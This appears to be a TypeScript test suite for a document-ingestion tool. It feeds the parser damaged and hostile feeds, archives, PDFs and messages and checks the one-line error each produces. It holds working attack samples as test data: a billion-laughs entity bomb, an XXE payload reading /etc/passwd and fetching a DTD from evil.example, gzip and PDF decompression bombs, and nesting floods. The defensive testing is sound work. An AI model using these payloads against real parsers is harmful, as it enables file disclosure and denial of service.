/** Broken and hostile feeds, sitemaps, archives and files, each with the line that a person is told. */
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { gzipSync } from 'node:zlib'
import type { CollectOptions } from '../../src/collect/index.ts'
import { asReadoutError, type Collected, type Resource } from '../../src/domain/index.ts'
import { extractResource } from '../../src/flow/reading/extractResource.ts'
import { bytesOf, fromBytes, longText, page, warcGz, warcRecord } from '../collect/made.ts'
import { packedPdf, pdfOf, textLines } from '../extract/made-pdf.ts'

interface Fault {
  what: string
  bytes: () => Uint8Array | string
  options?: CollectOptions
  /** What is told, one line each, in order. */
  told: RegExp[]
  /** How many pages come all the same. */
  pages?: number
}

const rss = (inner: string, before = '') =>
  `<?xml version="1.0"?>${before}<rss version="2.0"><channel><title>Ellory Dispatch</title>${inner}</channel></rss>`
const item = (n: number, title = `Talks ${n}`) =>
  `<item><title>${title}</title><link>https://ellory.example/${n}</link><description>${longText.repeat(3)}</description></item>`
const laughs = `<!DOCTYPE rss [<!ENTITY a "ha">${Array.from('bcdefghijk', (name, i) => `<!ENTITY ${name} "${`&${'abcdefghij'[i]};`.repeat(10)}">`).join('')}]>`
const files =
  '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "https://evil.example/dtd">%y;]>'
const gz = (content: string | Uint8Array) => new Uint8Array(gzipSync(content))
const zip = (name: string) => bytesOf('PK\u0003\u0004', new Uint8Array(26), name, new Uint8Array(40))

const faults: Fault[] = [
  { what: 'nothing', bytes: () => '', told: [/^-: it is empty\./] },
  { what: 'a gzip file with nothing in it', bytes: () => gz(''), told: [/^-: there is nothing in it\./] },
  {
    what: 'a page in a gzip file that is cut off',
    bytes: () => gz(page('x')).subarray(0, 200),
    told: [/^-: the gzip file is cut off\. Fetch or copy it again\.$/],
  },
  {
    what: 'a gzip file cut off in its header',
    bytes: () => gz(page('x')).subarray(0, 8),
    told: [/^-: .*(cut off|nothing)/],
  },
  {
    what: 'a gzip file with damaged bytes',
    bytes: () => {
      const bytes = gz(page('x'))
      return bytes.fill(0x55, 30, 60)
    },
    told: [/^-: its compressed bytes are damaged\. Fetch or copy it again\.$/],
  },
  {
    what: 'a gzip bomb',
    bytes: () => gz(gz(new Uint8Array(120_000_000))),
    told: [/^-: (it unpacks to more than 250 times its size|20\.\d MB is more than the limit of 20\.0 MB)\./],
  },
  {
    what: 'a gzip bomb with no limit of size',
    bytes: () => gz(new Uint8Array(120_000_000)),
    options: { maxBytes: 1e9 },
    told: [/^-: it unpacks to more than 250 times its size\./],
  },
  {
    what: 'gzip in gzip in gzip',
    bytes: () => gz(gz(gz(page('x')))),
    told: [/^-: it is compressed again and again\./],
  },
  {
    what: 'a feed in a gzip file that is cut off',
    bytes: () => {
      const bytes = gz(rss(item(1) + item(2, 'x'.repeat(90_000))))
      return bytes.subarray(0, bytes.length - 30)
    },
    told: [/^skipped: its page would have/, /^-: it is cut off; \d entr/, /^-: the gzip file is cut off\./],
    pages: 1,
  },
  {
    what: 'a feed that is cut off',
    bytes: () => rss(item(1) + item(2)).slice(0, -60),
    told: [/^skipped: its page would have/, /^-: it is cut off; 2 entries could be read\. What came before is kept/],
    pages: 1,
  },
  { what: 'a feed without entries', bytes: () => rss(''), told: [/^skipped: it has no entries$/] },
  { what: 'entities that expand without end', bytes: () => rss(item(1, '&k;'), laughs), told: [], pages: 1 },
  { what: 'entities that name files', bytes: () => rss(item(1, '&x;'), files), told: [], pages: 1 },
  {
    what: 'elements nested 10,000 deep',
    bytes: () => rss(`${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}${item(1)}`),
    told: [/^-: its elements are nested more than 256 deep\./],
  },
  {
    what: 'elements nested 1,000,000 deep without an end',
    bytes: () => rss('<a>'.repeat(1_000_000)),
    told: [/^-: its elements are nested more than 256 deep\./],
  },
  {
    what: 'a sitemap nested 10,000 deep',
    bytes: () => `<urlset>${'<url>'.repeat(10_000)}`,
    told: [/^-: its elements are nested more than 256 deep\./],
  },
  {
    what: 'an element with 100,000 attributes',
    bytes: () =>
      rss(
        `<item ${Array.from({ length: 100_000 }, (_, i) => `a${i}="x"`).join(' ')}><link>https://ellory.example/1</link></item>`,
      ),
    told: [/^skipped: its page would have/],
  },
  {
    what: 'a feed of more than 50 MB',
    bytes: () => rss(`<!--${'x'.repeat(53_000_000)}-->`),
    told: [/^-: .*MB is more than the limit of 52\.4 MB/],
  },
  {
    what: 'a JSON feed that breaks off before its items',
    bytes: () => '{"version":"https://jsonfeed.org/version/1.1","title":"x","ite',
    told: [/^-: its JSON is broken before its first item\./],
  },
  {
    what: 'a sitemap without addresses',
    bytes: () => '<urlset><url><loc>mailto:x@y.example</loc></url></urlset>',
    told: [/^-: 1 entry with neither address nor text\./],
  },
  {
    what: 'an index of sitemaps with nothing that fetches',
    bytes: () => '<sitemapindex><sitemap><loc>https://x.example/s.xml</loc></sitemap></sitemapindex>',
    told: [/^https:\/\/x\.example\/s\.xml: this sitemap would have to be fetched/],
  },
  {
    what: 'an archive cut off in a record',
    bytes: () => bytesOf(warcRecord(page('1')), warcRecord(page('2')).subarray(0, 500)),
    told: [/^-: it is cut off in record 2; 1 page before it could be read\. Fetch the archive again/],
    pages: 1,
  },
  {
    what: 'an archive cut off in a compressed record',
    bytes: () => warcGz(warcRecord(page('1')), warcRecord(page('2'))).subarray(0, -40),
    told: [/^-: it is cut off in record 2 \(the gzip file is cut off\); 1 page before/],
    pages: 1,
  },
  {
    what: 'an archive with a damaged record',
    bytes: () =>
      bytesOf(
        warcGz(warcRecord(page('1'))),
        gz(warcRecord(page('2'))).fill(0x55, 30, 60),
        warcGz(warcRecord(page('3'))),
      ),
    told: [/record 2 is broken: its compressed bytes are damaged\. The other records are read/],
    pages: 2,
  },
  {
    what: 'a record that says it has an exabyte',
    bytes: () => warcRecord(page('1'), { length: 1e14 }),
    told: [/^-: it is cut off in record 1; 0 pages before/],
  },
  {
    what: 'a record with 100,000 header lines',
    bytes: () => `WARC/1.0\r\n${'X: y\r\n'.repeat(100_000)}\r\n`,
    told: [/record 1 is broken: its header does not end/],
  },
  {
    what: 'a record without an end of line',
    bytes: () => `WARC/1.0\n${'x'.repeat(3_000_000)}`,
    told: [/record 1 is broken|cut off in record 1/],
  },
  {
    what: 'a captured answer that is none',
    bytes: () => warcRecord('x', { http: [], uri: 'https://x.example/1' }).subarray(0),
    told: [],
    pages: 1,
  },
  {
    what: 'a PDF locked with a password',
    bytes: () =>
      pdfOf([textLines([longText])], {
        trailer:
          '/Encrypt << /Filter /Standard /V 1 /R 2 /O <28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A> /U <0000000000000000000000000000000000000000000000000000000000000000> /P -44 >> /ID [<01> <01>]',
      }),
    told: [/^-: this PDF is locked with a password\. Open it with its password/],
  },
  {
    what: 'a PDF bomb',
    bytes: () => packedPdf(new Uint8Array(70_000_000)),
    told: [/^-: a stream of this PDF unpacks to more than 64 MB\. Print it into a new PDF/],
  },
  {
    what: 'a PDF bomb in a PDF bomb',
    bytes: () =>
      packedPdf(
        new Uint8Array(70_000_000).map((_, i) => i >> 20),
        2,
      ),
    told: [/^-: this PDF holds pictures|^-: a stream of this PDF unpacks/],
  },
  {
    what: 'a PDF of pictures',
    bytes: () => pdfOf([[], [], []]),
    told: [/^-: this PDF holds pictures of pages, no text\. Run it through text recognition \(OCR\)/],
  },
  {
    what: 'a PDF cut off',
    bytes: () => pdfOf([textLines([longText])]).subarray(0, 300),
    told: [/^-: this PDF is damaged or cut off\./],
  },
  {
    what: 'a PDF that is only called one',
    bytes: () => '%PDF-1.7\nnothing of it is true',
    told: [/^-: this PDF is damaged or cut off\./],
  },
  {
    what: 'a PDF with a page tree that goes in a circle',
    bytes: () =>
      bytesOf(
        Buffer.from(pdfOf([textLines([longText])]))
          .toString('latin1')
          .replace('/Kids [5 0 R]', '/Kids [2 0 R]'),
      ),
    told: [/^-: this PDF (is damaged or cut off|holds pictures)/],
  },
  {
    what: 'a message without a text',
    bytes: () =>
      'From: a@x.example\nSubject: x\nMIME-Version: 1.0\nContent-Type: application/pdf; name="talks.pdf"\nContent-Disposition: attachment; filename="talks.pdf"\n\n%PDF',
    told: [/^-: this message has no text; attached to it: talks\.pdf\. Save what is attached and give that\.$/],
  },
  {
    what: 'a message with nothing behind its header',
    bytes: () => 'From: a@x.example\nSubject: x\nMIME-Version: 1.0\n\n',
    told: [/^-: this message has no text\./],
  },
  {
    what: 'a message with parts nested 1,000 deep',
    bytes: () =>
      `From: a@x.example\nMIME-Version: 1.0\n${Array.from({ length: 1000 }, (_, i) => `Content-Type: multipart/mixed; boundary=b${i}\n\n--b${i}\n`).join('')}\n\nx`,
    told: [/^-: its parts are nested more than 64 deep\./],
  },
  {
    what: 'a Word document',
    bytes: () => zip('word/document.xml'),
    told: [/^-: it looks like a Word document \(\.docx\)\. Save it as PDF or plain text/],
  },
  {
    what: 'an OpenDocument text',
    bytes: () => zip('mimetypeapplication/vnd.oasis.opendocument.text'),
    told: [/^-: it looks like an OpenDocument text \(\.odt\)\. Save it as PDF/],
  },
  {
    what: 'a ZIP archive',
    bytes: () => zip('pages/1.html'),
    told: [/^-: it looks like a ZIP archive\. Unpack it and give the files/],
  },
  {
    what: 'a photograph',
    bytes: () => Uint8Array.of(0xff, 0xd8, 0xff, 0xe0, 0, 0),
    told: [/^-: it looks like a JPEG image\. Run it through text recognition/],
  },
  {
    what: 'a film',
    bytes: () => bytesOf(Uint8Array.of(0, 0, 0, 24), 'ftypmp42', new Uint8Array(20)),
    told: [/^-: it looks like a video\. Give a transcript/],
  },
  {
    what: 'a tar archive in a gzip file',
    bytes: () => gz(bytesOf('page.html', new Uint8Array(248), 'ustar', new Uint8Array(800))),
    told: [/^-: it looks like a tar archive\. Unpack it/],
  },
]

describe('collected and extracted', () => {
  for (const { what, bytes, options, told, pages = 0 } of faults)
    test(`${what} ${told.length > 0 ? 'is told in a line' : 'does no harm'}`, { timeout: 20_000 }, async () => {
      const given = bytes()
      const found = await fromBytes(typeof given === 'string' ? bytesOf(given) : given, options)
      const lines: string[] = []
      let read = 0
      for (const one of found) {
        const outcome = await outcomeOf(one)
        if (outcome === null) read++
        else lines.push(outcome)
      }
      assert.equal(lines.length, told.length, lines.join('\n'))
      for (const [i, pattern] of told.entries()) {
        assert.match(lines[i] ?? '', pattern)
        assert.doesNotMatch(lines[i] ?? '', /[\r\n]/)
      }
      assert.equal(read, pages)
    })
})

/** What is told of it; null for a page that could be read. */
async function outcomeOf(one: Collected): Promise<string | null> {
  if (one.kind === 'skipped') return `skipped: ${one.reason}`
  if (one.kind === 'failed') return one.error.message
  return one.kind === 'unchanged' ? 'unchanged' : told(one.resource)
}

async function told(resource: Resource): Promise<string | null> {
  try {
    const { document } = await extractResource(resource, {})
    assert.doesNotMatch(document.text, /root:|hahaha/)
    return null
  } catch (error) {
    return asReadoutError(error, resource.name).message
  }
}
